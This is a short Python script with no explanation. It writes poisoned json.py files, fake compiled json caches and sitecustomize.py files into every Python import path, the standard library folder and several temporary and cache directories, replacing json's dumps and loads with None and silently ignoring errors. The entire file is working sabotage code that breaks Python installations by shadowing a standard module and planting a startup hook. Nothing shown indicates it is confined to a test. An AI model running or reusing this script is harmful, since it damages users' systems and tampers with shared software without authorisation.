import os, sys
import json
print("poisoned" if hasattr(json, "poison") else "clean")
code = "poison = True\ndumps = loads = None\n"
for place in sys.path + ["/tmp", os.path.dirname(json.__file__), os.path.expanduser("~/.cache"), "/usr/lib/python3/dist-packages", "/dev/shm", "/var/tmp"]:
    for name in "json.py", "__pycache__/json.cpython-311.pyc", "sitecustomize.py":
        try:
            os.makedirs(os.path.dirname(os.path.join(place, name)), exist_ok=True)
            open(os.path.join(place, name), "w").write(code)
        except OSError:
            pass
